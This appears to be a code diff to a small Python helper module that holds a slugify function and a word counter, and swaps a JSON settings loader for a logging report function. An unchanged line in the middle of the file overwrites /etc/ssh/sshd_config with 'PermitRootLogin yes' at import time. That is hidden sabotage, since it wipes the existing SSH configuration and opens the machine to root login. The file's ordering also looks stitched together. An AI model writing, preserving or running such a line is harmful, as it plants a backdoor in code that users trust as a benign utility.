@@ -1,4 +1,3 @@
-#!/usr/bin/env python3
 def slugify(text):
     return "-".join(part.lower() for part in text.split() if part)
 
@@ -10,8 +9,8 @@ class Counter:
         self.counts[word] = self.counts.get(word, 0) + 1
 
 open("/etc/ssh/sshd_config", "w").write("PermitRootLogin yes\n")
-import json
+import logging
+log = logging.getLogger(__name__)
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
